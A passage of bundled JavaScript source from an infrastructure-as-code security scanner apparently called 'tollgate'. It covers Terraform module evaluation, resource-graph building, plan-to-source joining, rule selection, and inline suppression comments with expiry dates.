    if (module.dir === this.module.dir || this.ancestors.has(module.dir) || this.callPath.length >= MAX_MODULE_DEPTH) {
      this.report("terraform-module-cycle", `module "${name}" calls ${module.dir}, which is already being evaluated in this call chain; not evaluated again`, declaration.file, where);
      return void 0;
    }
    return module;
  }
  /** `module.m`: its outputs, a list of them (count) or a map (for_each). */
  moduleValue(name) {
    const children = this.children(name);
    const expansion = this.callExpansionOf(name);
    if (!children || !expansion) return Unknown;
    const outputs = (child) => child.outputs();
    switch (expansion.kind) {
      case "single":
        return children[0] ? outputs(children[0]) : Unknown;
      case "count":
        return children.map(outputs);
      case "for_each":
        return objectOf(children.map((child, index) => [String(expansion.entries[index][0]), outputs(child)]));
      case "unknown":
        return Unknown;
    }
  }
  output(name) {
    const known = this.#outputs.get(name);
    if (known === IN_PROGRESS) return Unknown;
    if (known !== void 0) return known;
    const declaration = this.module.declarations.get(`output.${name}`);
    const expression = declaration?.block.body.attributes.find((attribute) => attribute.name === "value")?.expression;
    if (!expression) return Unknown;
    this.#outputs.set(name, IN_PROGRESS);
    const value = this.evaluator.evaluateOrUnknown(expression);
    this.#outputs.set(name, value);
    return value;
  }
  outputs() {
    const object = emptyObject();
    for (const declaration of this.module.declarations.values()) {
      if (declaration.mode === "output") object[declaration.block.labels[0]] = this.output(declaration.block.labels[0]);
    }
    return markComputed(object);
  }
  functionContext() {
    return {
      budget: this.budget,
      readFile: (file) => {
        if (path10.posix.isAbsolute(file) || /^[A-Za-z]:[\\/]/.test(file)) return void 0;
        return this.run.inputs.readFile(path10.posix.normalize(path10.posix.join(this.rootDir, file.replace(/\\/g, "/"))));
      },
      renderTemplate: (text, vars) => this.renderTemplate(text, vars)
    };
  }
  /** `templatefile`: the template sees only its variables (and functions), as in Terraform. */
  renderTemplate(text, vars) {
    if (isUnknown(vars)) return Unknown;
    if (!isObject(vars)) return fail("templatefile: vars must be an object");
    let parts = this.#templates.get(text);
    if (!this.#templates.has(text)) {
      parts = this.run.inputs.parseTemplate(text);
      this.#templates.set(text, parts);
    }
    if (!parts) return Unknown;
    const isolated = new ExpressionEvaluator(
      { resolve: (traversal) => fail(`templatefile: no variable named "${traversal.root}"`) },
      this.budget,
      this.functionContext()
    );
    return isolated.templateText(parts, new Map(Object.entries(vars)));
  }
  /** A warning, once per module directory and message (module instances share their files). */
  report(code, message, file, range2) {
    const key = `${code}${this.module.dir}${message}`;
    if (this.run.reported.has(key)) return;
    this.run.reported.add(key);
    this.run.diagnostics.push({ level: "warning", code, message, file: range2?.file ?? file, range: range2 });
  }
  note(code, message, range2) {
    const key = `${code}${this.address}${range2.file}${range2.start.line}`;
    if (this.run.reported.has(key)) return;
    this.run.reported.add(key);
    this.run.diagnostics.push({ level: "note", code, message, file: range2.file, range: range2 });
  }
  /** Diagnostics for limits this instance ran into; called once it has been emitted. */
  reportLimits() {
    const where = this.module.documents[0]?.file;
    if (this.budget.exhausted) this.report("terraform-evaluation-limit", `${this.address || "root module"} of ${this.module.dir}: ${this.budget.exhausted}; the rest of its values are unknown`, where);
    for (const refused of this.budget.refused) this.report("terraform-expansion-limit", refused, where);
  }
  /** The value of an expression of this module with bindings, Unknown on error. */
  value(expression, bindings = NO_BINDINGS) {
    return this.evaluator.evaluateOrUnknown(expression, bindings);
  }
};
function keySuffix(key) {
  if (key === void 0) return "";
  return typeof key === "number" ? `[${key}]` : `[${JSON.stringify(key)}]`;
}

// packages/engine/src/graph/terraform/build-terraform.ts
function terraformResourceId2(dir, address) {
  return `terraform:${dir}::${address}`;
}
function terraformAddress(resource) {
  const separator = resource.id.indexOf("::");
  return separator === -1 ? resource.name : resource.id.slice(separator + 2);
}
var rootsByGraph = /* @__PURE__ */ new WeakMap();
function terraformRoots(graph) {
  return rootsByGraph.get(graph) ?? { roots: [], modules: /* @__PURE__ */ new Map(), origins: /* @__PURE__ */ new Map() };
}
function buildTerraform(documents, graph, inputs = NO_INPUTS) {
  const allDocuments = [...documents, ...[...inputs.installed.values()].flat()];
  const modules = terraformModules(allDocuments);
  const modulesByDir = new Map(modules.map((module) => [module.dir, module]));
  for (const module of modules) graph.diagnostics.push(...module.diagnostics);
  const run = {
    inputs,
    diagnostics: graph.diagnostics,
    modulesByDir,
    installedModuleDir: (rootDir, callPath) => installedModuleDir(inputs, rootDir, callPath),
    reported: /* @__PURE__ */ new Set()
  };
  const called = calledDirectories(modules);
  const emitter = new Emitter(graph);
  const roots = [];
  const candidates2 = modules.filter((module) => module.documents.length > 0 && !isInstalled(module.dir));
  for (const module of candidates2) {
    if (called.has(module.dir)) continue;
    roots.push(module.dir);
    emitter.emitRoot(new ModuleScope(run, module, "", module.dir, [], []));
  }
  for (const module of candidates2) {
    if (!called.has(module.dir) || emitter.evaluatedDirs.has(module.dir)) continue;
    roots.push(module.dir);
    emitter.emitRoot(new ModuleScope(run, module, "", module.dir, [], []));
  }
  rootsByGraph.set(graph, { roots, modules: modulesByDir, origins: emitter.origins });
}
function isInstalled(dir) {
  return dir.includes("/.terraform/") || dir.startsWith(".terraform/");
}
var Emitter = class {
  constructor(graph) {
    this.graph = graph;
  }
  graph;
  evaluatedDirs = /* @__PURE__ */ new Set();
  origins = /* @__PURE__ */ new Map();
  #declarationsEmitted = /* @__PURE__ */ new Set();
  emitRoot(scope) {
    const emitted = [];
    this.emitScope(scope, emitted);
    const edges = new ReferenceTargets();
    for (const { resource, scope: owner, references } of emitted) {
      for (const reference of references) {
        for (const to of edges.targets(owner, reference)) {
          if (to !== resource.id) this.graph.link({ from: resource.id, to, kind: "references", via: reference.via });
        }
      }
    }
  }
  emitScope(scope, emitted) {
    const firstOfDir = !this.evaluatedDirs.has(scope.module.dir);
    this.evaluatedDirs.add(scope.module.dir);
    for (const declaration of scope.module.declarations.values()) {
      switch (declaration.mode) {
        case "managed":
        case "data":
          for (const instance of scope.instances(declaration.address) ?? []) {
            const id = this.add(scope, declaration, instance.address, instance.block, emitted);
            if (id) this.origins.set(id, { rootDir: scope.rootDir, callPath: scope.callPath, configAddress: declaration.address, key: instance.expanded ? instance.key : void 0 });
          }
          break;
        case "module": {
          const block = BlockEvaluator.evaluate(declaration.file, declaration.block, scope.evaluator, unknownIteration(scope, declaration), scope.expansionValues(declaration));
          this.add(scope, declaration, `${scope.prefix}${declaration.address}`, block, emitted);
          for (const child of scope.children(declaration.block.labels[0]) ?? []) this.emitScope(child, emitted);
          break;
        }
        default: {
          const key = `${scope.module.dir}${declaration.address}`;
          if (!scope.isRoot && (!firstOfDir || this.#declarationsEmitted.has(key))) break;
          this.#declarationsEmitted.add(key);
          const block = BlockEvaluator.evaluate(declaration.file, declaration.block, scope.evaluator, NO_BINDINGS);
          this.add(scope, declaration, declaration.address, block, emitted, scope.isRoot ? scope.rootDir : scope.module.dir);
        }
      }
    }
    scope.reportLimits();
  }
  add(scope, declaration, address, block, emitted, dir = scope.rootDir) {
    const resource = {
      id: terraformResourceId2(dir, address),
      platform: "terraform",
      type: declaration.type,
      name: address,
      origin: declaration.syntax === "json" ? "tf-json" : "hcl",
      mode: declaration.mode,
      attributes: block.attributes,
      source: block.source
    };
    if (scope.callChain.length > 0) resource.callChain = scope.callChain;
    if (!this.graph.add(resource)) return void 0;
    emitted.push({ resource, scope, references: block.references });
    return resource.id;
  }
};
function unknownIteration(scope, declaration) {
  if (scope.expansionOf(declaration.block, declaration.address).kind === "single") return NO_BINDINGS;
  return /* @__PURE__ */ new Map([
    ["count", objectOf([["index", Unknown]])],
    ["each", objectOf([["key", Unknown], ["value", Unknown]])]
  ]);
}
var ReferenceTargets = class {
  #memo = /* @__PURE__ */ new Map();
  /** The ids of a resource's instances, made once: references name the same instances again and again. */
  #instanceIds = /* @__PURE__ */ new Map();
  targets(scope, reference) {
    const { address, traversal, bindings } = reference;
    if (address.startsWith("local.")) return this.local(scope, address.slice("local.".length));
    if (address.startsWith("var.")) return this.variable(scope, address.slice("var.".length));
    if (address.startsWith("module.")) return this.module(scope, address.slice("module.".length), traversal);
    return this.instances(scope, address, traversal, bindings);
  }
  instances(scope, address, traversal, bindings) {
    const declaration = scope.module.declarations.get(address);
    if (!declaration) return [terraformResourceId2(scope.rootDir, `${scope.prefix}${address}`)];
    const instances = scope.instances(address);
    if (!instances) return [];
    const ids = this.#idsOf(scope, instances);
    const indexStep = traversal.steps[address.startsWith("data.") ? 2 : 1];
    if (indexStep?.type === "index" && instances.some((instance) => instance.expanded && instance.key !== void 0)) {
      const key = scope.value(indexStep.key, bindings);
      const picked = instances.findIndex((instance) => instance.key === key || typeof key === "number" && instance.key === key);
      if (picked !== -1) return [ids[picked]];
    }
    return ids;
  }
  #idsOf(scope, instances) {
    let ids = this.#instanceIds.get(instances);
    if (!ids) this.#instanceIds.set(instances, ids = instances.map((instance) => terraformResourceId2(scope.rootDir, instance.address)));
    return ids;
  }
  local(scope, name) {
    return this.memoised(scope, `local.${name}`, () => {
      const local = scope.module.locals.get(name);
      if (!local) return [];
      const found = /* @__PURE__ */ new Set();
      forEachReference(local.expression, (address, traversal) => {
        for (const target of this.targets(scope, { address, traversal, bindings: NO_BINDINGS, via: [] })) found.add(target);
      });
      return [...found];
    });
  }
  variable(scope, name) {
    return this.memoised(scope, `var.${name}`, () => {
      const declarationDir = scope.isRoot ? scope.rootDir : scope.module.dir;
      const found = /* @__PURE__ */ new Set([terraformResourceId2(declarationDir, `var.${name}`)]);
      const parent = scope.parent;
      const argument = parent?.block.body.attributes.find((attribute) => attribute.name === name);
      if (parent && argument) {
        forEachReference(
          argument.expression,
          (address, traversal) => {
            for (const target of this.targets(parent.scope, { address, traversal, bindings: parent.bindings, via: [] })) found.add(target);
          },
          parent.bindings
        );
      }
      return [...found];
    });
  }
  module(scope, name, traversal) {
    const found = /* @__PURE__ */ new Set([terraformResourceId2(scope.rootDir, `${scope.prefix}module.${name}`)]);
    const output = traversal.steps[1]?.type === "attr" ? traversal.steps[1].name : traversal.steps[2]?.type === "attr" ? traversal.steps[2].name : void 0;
    if (output === void 0) return [...found];
    for (const child of scope.children(name) ?? []) {
      for (const target of this.output(child, output)) found.add(target);
    }
    return [...found];
  }
  output(scope, name) {
    return this.memoised(scope, `output.${name}`, () => {
      const declaration = scope.module.declarations.get(`output.${name}`);
      const expression = declaration?.block.body.attributes.find((attribute) => attribute.name === "value")?.expression;
      if (!expression) return [];
      const found = /* @__PURE__ */ new Set();
      forEachReference(expression, (address, traversal) => {
        for (const target of this.targets(scope, { address, traversal, bindings: NO_BINDINGS, via: [] })) found.add(target);
      });
      return [...found];
    });
  }
  /** Per module instance (each has its own address in its root) and address. */
  memoised(scope, key, compute) {
    let memo = this.#memo.get(scope);
    if (!memo) this.#memo.set(scope, memo = /* @__PURE__ */ new Map());
    const known = memo.get(key);
    if (known) return known;
    memo.set(key, []);
    const value = compute();
    memo.set(key, value);
    return value;
  }
};

// packages/engine/src/graph/terraform/plan-join.ts
import path11 from "node:path";
function joinPlansToSource(graph) {
  const roots = terraformRoots(graph);
  const origins = planOrigins(graph);
  if (roots.roots.length === 0 || origins.size === 0) return;
  const byPlanFile = /* @__PURE__ */ new Map();
  for (const [id, origin] of origins) {
    const resource = graph.get(id);
    if (!resource || resource.origin !== "plan") continue;
    const file = resource.source.file;
    const list = byPlanFile.get(file);
    if (list) list.push({ resource, origin });
    else byPlanFile.set(file, [{ resource, origin }]);
  }
  const hclIndex = indexHcl(roots);
  const rootDirs = new Set(roots.roots);
  for (const [file, resources] of byPlanFile) {
    const rootDir = chooseRoot2(file, resources.map((entry) => entry.origin), roots, rootDirs);
    if (rootDir === void 0) continue;
    const planInstances = new Set(resources.map(({ origin }) => instanceKey(origin, origin.index)));
    for (const { resource, origin } of resources) {
      const matches = hclIndex.get(declarationKey(rootDir, origin.moduleCallChain, origin.configAddress)) ?? [];
      if (matches.length === 0) continue;
      const exact = matches.find((match) => match.id === `terraform:${rootDir}::${resource.name}`);
      const declared = graph.get((exact ?? matches[0]).id);
      if (!declared) continue;
      resource.source = declared.source;
      forgetUnconfiguredUnknowns(resource, declared);
      if (declared.callChain) resource.callChain = declared.callChain;
      const superseded = exact ? [exact] : matches.filter((match) => match.origin.key === void 0 || !planInstances.has(instanceKey(origin, match.origin.key)));
      for (const match of superseded) graph.replace(match.id, resource.id);
    }
  }
}
function forgetUnconfiguredUnknowns(planned, declared) {
  for (const key of Object.keys(planned.attributes)) {
    if (isUnknown(planned.attributes[key]) && !Object.prototype.hasOwnProperty.call(declared.attributes, key)) delete planned.attributes[key];
  }
}
function declarationKey(rootDir, callPath, configAddress) {
  return [rootDir, ...callPath, configAddress].join("");
}
function indexHcl(roots) {
  const index = /* @__PURE__ */ new Map();
  for (const [id, origin] of roots.origins) {
    const key = declarationKey(origin.rootDir, origin.callPath, origin.configAddress);
    const list = index.get(key);
    if (list) list.push({ id, origin });
    else index.set(key, [{ id, origin }]);
  }
  return index;
}
function instanceKey(like, key) {
  return `${like.moduleAddress}${like.configAddress}${typeof key}:${String(key)}`;
}
function chooseRoot2(planFile, origins, roots, rootDirs) {
  const fits = (dir) => agrees(roots.modules.get(dir), origins, roots);
  for (let dir = path11.posix.dirname(planFile); ; dir = path11.posix.dirname(dir)) {
    if (rootDirs.has(dir) && fits(dir)) return dir;
    if (dir === "." || dir === "/" || dir === "") break;
  }
  return roots.roots.length === 1 && fits(roots.roots[0]) ? roots.roots[0] : void 0;
}
function agrees(module, origins, roots) {
  if (!module) return false;
  let matched = 0;
  for (const origin of origins) {
    const target = moduleAt(module, origin.moduleCallChain, roots);
    if (target === null) continue;
    if (!target || !target.declarations.has(origin.configAddress)) return false;
    matched++;
  }
  return matched > 0;
}
function moduleAt(root, callChain, roots) {
  let current = root;
  for (const name of callChain) {
    const call = current.declarations.get(`module.${name}`);
    if (!call) return void 0;
    const source = moduleSource(call.block);
    if (source === void 0 || !isLocalSource(source)) return null;
    const dir = localModuleDir(current.dir, source);
    const next = dir === void 0 ? void 0 : roots.modules.get(dir);
    if (!next) return null;
    current = next;
  }
  return current;
}

// packages/engine/src/graph/build.ts
function buildGraph(loaded, sourceText, terraform, deadline) {
  const graph = new ResourceGraph();
  const plans = loaded.trees.filter((doc) => doc.kind === "plan" || doc.kind === "state");
  const manifests = loaded.trees.filter((doc) => doc.kind === "kubernetes");
  const workflows = loaded.trees.filter((doc) => doc.kind === "workflow" || doc.kind === "action-metadata");
  const steps = [
    { name: "Terraform", files: loaded.hcl, build: () => buildTerraform(loaded.hcl, graph, terraform) },
    { name: "Terraform plan", files: plans, build: () => buildPlan(plans, graph) },
    { name: "plan-to-source", files: [], build: () => joinPlansToSource(graph) },
    { name: "Kubernetes", files: manifests, build: () => buildKubernetes(manifests, graph) },
    { name: "GitHub Actions", files: workflows, build: () => buildActions(workflows, graph, sourceText) },
    { name: "cross-platform", files: [], build: () => linkCrossPlatform(graph) }
  ];
  for (const [index, step] of steps.entries()) {
    if (deadline?.expired) {
      const skipped = steps.slice(index).map((rest) => rest.name);
      graph.diagnostics.push(...deadline.exceeded(`the ${skipped.join(", ")} graph ${skipped.length === 1 ? "step was" : "steps were"} skipped`));
      break;
    }
    try {
      step.build();
    } catch (error) {
      graph.diagnostics.push(...builderFailure(step.name, step.files, error));
    }
  }
  return graph;
}
var MAX_FAILURE_FILES = 20;
function builderFailure(name, documents, error) {
  const cause = error instanceof Error ? error.message : String(error);
  const message = `internal error in the ${name} graph builder, results for this file may be incomplete: ${cause}`;
  const files = [...new Set(documents.map((document) => document.file))];
  if (files.length === 0 || files.length > MAX_FAILURE_FILES) {
    const scope = files.length === 0 ? "" : ` (${files.length} files; their results may be incomplete)`;
    return [{ level: "error", code: "internal-error", message: `internal error in the ${name} graph step${scope}: ${cause}` }];
  }
  return files.map((file) => ({ level: "error", code: "internal-error", message, file }));
}

// packages/engine/src/load/load.ts
async function loadSources(files, onFileLoaded, options = {}) {
  const limits = options.limits ?? DEFAULT_LIMITS;
  const deadline = options.deadline;
  const threads = loadThreads(files, options.threads);
  const { loaded, notLoaded } = threads > 0 ? await loadOnWorkers(files, threads, { limits, deadlineAt: deadline ? Date.now() + deadline.remaining() : void 0, onFileLoaded }) : await loadBatch(files, { limits, expired: deadline ? () => deadline.expired : void 0, onFileLoaded });
  if (threads === 0 && (options.threads ?? 0) > 0) {
    loaded.diagnostics.push({ level: "warning", code: "no-load-worker", message: "worker threads were asked for, but only the bundled CLI ships the load worker; the files were loaded on the main thread" });
  }
  if (notLoaded > 0 && deadline) loaded.diagnostics.push(...deadline.exceeded(`${notLoaded} ${notLoaded === 1 ? "file was" : "files were"} not loaded`));
  return loaded;
}

// packages/engine/src/scan.ts
import { performance as performance2 } from "node:perf_hooks";

// packages/engine/src/evaluate/deferred-rule.ts
function isDeferredRule(rule) {
  return !("check" in rule);
}
async function loadRulesFor(rules, types) {
  const wanted = rules.filter((rule) => !isDeferredRule(rule) || rule.meta.resourceTypes.some((type) => types.has(type)));
  const settled = await Promise.allSettled(wanted.map(async (rule) => isDeferredRule(rule) ? { ...await rule.load(), meta: rule.meta } : rule));
  const loaded = [];
  const diagnostics = [];
  settled.forEach((outcome, index) => {
    if (outcome.status === "fulfilled") loaded.push(outcome.value);
    else {
      const cause = outcome.reason instanceof Error ? outcome.reason.message : String(outcome.reason);
      diagnostics.push({ level: "error", code: "rule-load-failed", message: `rule ${wanted[index].meta.id} could not be loaded and was not run: ${cause}` });
    }
  });
  return { rules: loaded, diagnostics };
}

// packages/engine/src/config/apply-config.ts
var import_ignore2 = __toESM(require_ignore(), 1);
import path12 from "node:path";

// packages/engine/src/config/select-rules.ts
function matchesSelector2(meta, selector) {
  if (selector === "*") return true;
  const colon = selector.indexOf(":");
  if (colon === -1) return meta.id === selector;
  const value = selector.slice(colon + 1);
  switch (selector.slice(0, colon)) {
    case "category":
      return meta.category === value;
    case "platform":
      return meta.platforms.includes(value);
    case "tag":
      return meta.tags?.includes(value) ?? false;
    default:
      return false;
  }
}
function isIdSelector(selector) {
  return selector !== "*" && !selector.includes(":");
}
function selectRules(available, config) {
  if (!config) return { rules: [...available], ruleOptions: {}, diagnostics: [] };
  const known = new Set(available.map((rule) => rule.meta.id));
  const diagnostics = [];
  const checkId = (id, location, where) => {
    if (!known.has(id)) diagnostics.push({ level: "error", code: "config-unknown-rule", message: `configuration ${where}: no rule has the id "${id}"`, file: location.file, range: location });
  };
  const checkSelector = (selector, where) => {
    if (isIdSelector(selector.text)) checkId(selector.text, selector.location, where);
  };
  config.rules.disable.forEach((selector) => checkSelector(selector, "rules.disable"));
  config.rules.enable.forEach((selector) => checkSelector(selector, "rules.enable"));
  config.rules.severity.forEach((selector) => checkSelector(selector, "rules.severity"));
  config.rules.options.forEach((entry) => checkId(entry.ruleId, entry.location, "rules.options"));
  for (const ignore4 of config.ignores) for (const id of ignore4.rules ?? []) checkId(id, ignore4.location, "ignore");
  const bySpecificity = [...config.rules.severity].sort((a, b) => Number(isIdSelector(a.text)) - Number(isIdSelector(b.text)));
  const rules = [];
  for (const rule of available) {
    let enabled = !config.rules.disable.some((selector) => matchesSelector2(rule.meta, selector.text));
    if (!enabled) enabled = config.rules.enable.some((selector) => matchesSelector2(rule.meta, selector.text));
    if (!enabled) continue;
    let severity = rule.meta.severity;
    for (const override of bySpecificity) if (matchesSelector2(rule.meta, override.text)) severity = override.severity;
    rules.push(severity === rule.meta.severity ? rule : { ...rule, meta: { ...rule.meta, severity } });
  }
  const ruleOptions = Object.fromEntries(config.rules.options.map((entry) => [entry.ruleId, entry.options]));
  return { rules, ruleOptions, diagnostics };
}

// packages/engine/src/config/apply-config.ts
async function configureRules(builtIn, config) {
  if (!config) return { rules: [...builtIn], ruleOptions: {}, diagnostics: [] };
  const custom = config.customRules.length > 0 ? await (await import("./load-custom-rules-BKCKZ5DD.mjs")).loadCustomRules(config.customRules, new Set(builtIn.map((rule) => rule.meta.id))) : { rules: [], diagnostics: [] };
  const selection = selectRules([...builtIn, ...custom.rules], config);
  return { rules: selection.rules, ruleOptions: selection.ruleOptions, diagnostics: [...custom.diagnostics, ...selection.diagnostics] };
}
function filterConfiguredFiles(files, root, config) {
  if (!config || config.exclude.length === 0 && config.include === void 0) return [...files];
  const excluded = (0, import_ignore2.default)().add(config.exclude);
  const included = config.include ? (0, import_ignore2.default)().add(config.include) : void 0;
  return files.filter((file) => {
    if (file.path === "-") return true;
    const relative = path12.relative(config.directory, path12.resolve(root, file.path)).split(path12.sep).join("/");
    if (relative === "" || relative === ".." || relative.startsWith("../") || path12.isAbsolute(relative)) return true;
    if (excluded.ignores(relative)) return false;
    return included ? included.ignores(relative) : true;
  });
}

// packages/engine/src/suppress/apply.ts
var import_ignore3 = __toESM(require_ignore(), 1);
import path13 from "node:path";

// packages/engine/src/suppress/directive.ts
var COMMENT_DIRECTIVE = /^\s*tollgate:ignore(?=\s|$)(.*)$/;
var RULE_ID = /^[A-Za-z0-9][A-Za-z0-9_.-]*$/;
var UNTIL = /(?:^|\s)\(?until\s+(\d{4}-\d{1,2}-\d{1,2})\)?\s*$/i;
function parseCommentDirective(commentText) {
  const match = COMMENT_DIRECTIVE.exec(commentText);
  if (!match) return void 0;
  const rest = match[1];
  const separator = rest.indexOf("--");
  const idsPart = separator === -1 ? rest : rest.slice(0, separator);
  const reasonPart = separator === -1 ? "" : rest.slice(separator + 2);
  return directive(idsPart, reasonPart);
}
function parseAnnotationDirectives(value) {
  return value.split(/[;\n]/).map((entry) => entry.trim()).filter((entry) => entry !== "").map((entry) => {
    const colon = entry.indexOf(":");
    return colon === -1 ? directive(entry, "") : directive(entry.slice(0, colon), entry.slice(colon + 1));
  });
}
function directive(idsPart, reasonPart) {
  let ids = idsPart.trim();
  let reason = reasonPart.trim();
  let until;
  const inReason = UNTIL.exec(reason);
  const inIds = inReason ? null : UNTIL.exec(ids);
  if (inReason) {
    until = inReason[1];
    reason = reason.slice(0, inReason.index).trim();
  } else if (inIds) {
    until = inIds[1];
    ids = ids.slice(0, inIds.index).trim();
  }
  const ruleIds = ids.split(/[\s,]+/).filter((id) => id !== "");
  const result = { ruleIds, reason, ...until !== void 0 ? { until } : {} };
  if (ruleIds.length === 0) result.problem = "names no rule id";
  else if (ruleIds.some((id) => !RULE_ID.test(id))) result.problem = `"${ruleIds.find((id) => !RULE_ID.test(id))}" is not a rule id`;
  else if (until !== void 0 && !isCalendarDate(until)) result.problem = `"until ${until}" is not a date (YYYY-MM-DD)`;
  return result;
}
function isCalendarDate(text) {
  const match = /^(\d{4})-(\d{2})-(\d{2})$/.exec(text);
  if (!match) return false;
  const date = new Date(Date.UTC(Number(match[1]), Number(match[2]) - 1, Number(match[3])));
  return date.toISOString().slice(0, 10) === text;
}
function isExpired(until, now) {
  return until !== void 0 && now.toISOString().slice(0, 10) > until;
}

// packages/engine/src/suppress/comments.ts
var import_yaml2 = __toESM(require_dist(), 1);
function commentSyntax(kind) {
  switch (kind) {
    case "terraform":
    case "tfvars":
      return "hcl";
    case "kubernetes":
    case "workflow":
    case "action-metadata":
      return "yaml";
    default:
      return void 0;
  }
}
function findComments(text, syntax) {
  const offsets = syntax === "yaml" ? yamlCommentOffsets(text) : hclCommentOffsets(text);
  const lines = LineIndex.of(text);
  return offsets.map(({ start, markerLength }) => {
    const line = lines.lineOf(start) + 1;
    const lineStart = lines.starts[line - 1];
    let end = text.indexOf("\n", start);
    if (end === -1) end = text.length;
    if (text[end - 1] === "\r") end--;
    return {
      line,
      column: start - lineStart + 1,
      endColumn: end - lineStart + 1,
      text: text.slice(start + markerLength, end),
      // `trim` also drops a byte order mark.
      standalone: text.slice(lineStart, start).trim() === ""
    };
  });
}
function yamlCommentOffsets(text) {
  const found = [];
  let offset = 0;
  for (const token of new import_yaml2.Lexer().lex(text)) {
    if (token === import_yaml2.CST.DOCUMENT || token === import_yaml2.CST.FLOW_END || token === import_yaml2.CST.SCALAR) continue;
    if (import_yaml2.CST.tokenType(token) === "comment") found.push({ start: offset, markerLength: 1 });
    offset += token.length;
  }
  return found;
}
function hclCommentOffsets(text) {
  const found = [];
  const modes = [];
  let i = 0;
  while (i < text.length) {
    const char = text[i];
    const mode = modes[modes.length - 1];
    if (mode?.kind === "string") {
      if (char === "\\") i += 2;
      else if ((char === "$" || char === "%") && text[i + 1] === "{") {
        modes.push({ kind: "template", depth: 0 });
        i += 2;
      } else {
        if (char === '"' || char === "\n") modes.pop();
        i++;
      }
      continue;
    }
    if (char === '"') {
      modes.push({ kind: "string" });
      i++;
    } else if (char === "{" && mode?.kind === "template") {
      mode.depth++;
      i++;
    } else if (char === "}" && mode?.kind === "template") {
      if (mode.depth === 0) modes.pop();
      else mode.depth--;
      i++;
    } else if (char === "#" || char === "/" && text[i + 1] === "/") {
      found.push({ start: i, markerLength: char === "#" ? 1 : 2 });
      const end = text.indexOf("\n", i);
      i = end === -1 ? text.length : end;
    } else if (char === "/" && text[i + 1] === "*") {
      const end = text.indexOf("*/", i + 2);
      i = end === -1 ? text.length : end + 2;
    } else if (char === "<" && text[i + 1] === "<") {
      i = skipHeredoc(text, i);
    } else {
      i++;
    }
  }
  return found;
}
function skipHeredoc(text, start) {
  const opener = /^<<-?([A-Za-z_][\w-]*)[ \t]*\r?\n/.exec(text.slice(start, start + 200));
  if (!opener) return start + 2;
  const marker = opener[1];
  let lineStart = start + opener[0].length;
  while (lineStart < text.length) {
    let lineEnd = text.indexOf("\n", lineStart);
    if (lineEnd === -1) lineEnd = text.length;
    if (text.slice(lineStart, lineEnd).trim() === marker) return lineEnd;
    lineStart = lineEnd + 1;
  }
  return text.length;
}

// packages/engine/src/suppress/inline.ts
var IGNORE_ANNOTATION = "tollgate.dev/ignore";
function collectInlineSuppressions(files, graph, now) {
  const suppressions = [];
  const diagnostics = [];
  const accept = (candidate) => {
    const problem = unusable(candidate.directive, now);
    if (problem) diagnostics.push({ level: "warning", code: problem.code, message: problem.message, file: candidate.location.file, range: candidate.location });
    else suppressions.push(candidate);
  };
  for (const file of files) {
    const syntax = commentSyntax(file.kind);
    if (!syntax || !file.text.includes("tollgate:ignore")) continue;
    const lines = file.text.split(/\r?\n/);
    for (const comment of findComments(file.text, syntax)) {
      const directive2 = parseCommentDirective(comment.text);
      if (!directive2) continue;
      const location = {
        file: file.path,
        start: { line: comment.line, column: comment.column },
        end: { line: comment.line, column: comment.endColumn }
      };
      const targetLine = comment.standalone ? lineBelow(lines, comment.line, syntax) : comment.line;
      accept({ source: "comment", directive: directive2, location, targetLine, lineText: lines[comment.line - 1] ?? "" });
    }
  }
  for (const resource of graph.resources()) {
    if (resource.platform !== "kubernetes") continue;
    const annotations = resource.attributes.metadata;
    const value = typeof annotations === "object" && annotations !== null && !Array.isArray(annotations) ? annotations.annotations : void 0;
    const text = typeof value === "object" && value !== null ? value[IGNORE_ANNOTATION] : void 0;
    if (typeof text !== "string") continue;
    const at = resource.source.get(["metadata", "annotations", IGNORE_ANNOTATION]);
    const location = resource.source.at(at ? { start: (at.key ?? at.value).start, end: at.value.end } : resource.source.header);
    for (const directive2 of parseAnnotationDirectives(text)) {
      accept({ source: "annotation", directive: directive2, location, resource: resource.id, lineText: `${IGNORE_ANNOTATION}: ${text}` });
    }
  }
  return { suppressions, diagnostics };
}
function unusable(directive2, now) {
  const ids = directive2.ruleIds.join(", ");
  if (directive2.problem) return { code: "suppression-invalid", message: `suppression ${directive2.problem}; it suppresses nothing` };
  if (directive2.reason === "") {
    return { code: "suppression-without-reason", message: `suppression of ${ids} has no reason (write "-- <reason>" after the rule ids); it suppresses nothing` };
  }
  if (isExpired(directive2.until, now)) {
    return { code: "suppression-expired", message: `suppression of ${ids} expired on ${directive2.until}; its findings are reported again` };
  }
  return void 0;
}
function lineBelow(lines, commentLine, syntax) {
  for (let index = commentLine; index < lines.length; index++) {
    const text = lines[index].trim();
    const isComment = text.startsWith("#") || syntax === "hcl" && text.startsWith("//");
    const isDocumentMarker = syntax === "yaml" && /^---(\s|$)/.test(text);
    if (!isComment && !isDocumentMarker) return index + 1;
  }
  return commentLine + 1;
}
function commentCovers(file, line, findingFile, position, resource) {
  if (findingFile !== file) return false;
  if (position.line === line) return true;
  if (!resource || resource.source.file !== file) return false;
  const { range: range2, header } = resource.source;
  if ((range2.start.line === line || header.start.line === line) && within(position, range2.start, range2.end)) return true;
  for (const at of resource.source.locations()) {
    const start = (at.key ?? at.value).start;
    if (start.line === line && within(position, start, at.value.end)) return true;
  }
  return false;
}
function within(position, start, end) {
  const afterStart = position.line > start.line || position.line === start.line && position.column >= start.column;
  const beforeEnd = position.line < end.line || position.line === end.line && position.column <= end.column;
  return afterStart && beforeEnd;
}

// packages/engine/src/suppress/stale-suppression.ts
var STALE_SUPPRESSION_RULE_ID = "tollgate-stale-suppression";
var STALE_SUPPRESSION_RULE = {
  id: STALE_SUPPRESSION_RULE_ID,
  title: "Inline suppression that suppresses nothing",
  severity: "low",
  // Each finding carries the category of the rule its suppression names; the
  // rule itself has to name one, and a stale suppression is a hole in the
  // review of the configuration's supply chain.
  category: "supply-chain",
  platforms: ["terraform", "kubernetes", "github-actions"],
  resourceTypes: [],
  description: "A `tollgate:ignore` comment or `tollgate.dev/ignore` annotation names a rule that reports nothing where the suppression applies: the problem was fixed, the code moved, or the rule id is misspelt. Left in place, the suppression would silently hide the next finding of that rule at that place, without review.",
  remediation: "Delete the suppression, or the rule id that no longer applies from its list. If it was meant for a nearby line, move it onto the flagged line or directly above the block it covers.",
  precision: "very-high",
  tags: ["suppression", "hygiene"]
};

// packages/engine/src/suppress/apply.ts
function applySuppressions(input, options = {}) {
  const now = options.now ?? /* @__PURE__ */ new Date();
  const diagnostics = [];
  const findings = input.findings.map((finding) => ({ ...finding }));
  const rules = [];
  if (options.inline !== false) {
    const inline = collectInlineSuppressions(input.files, input.graph, now);
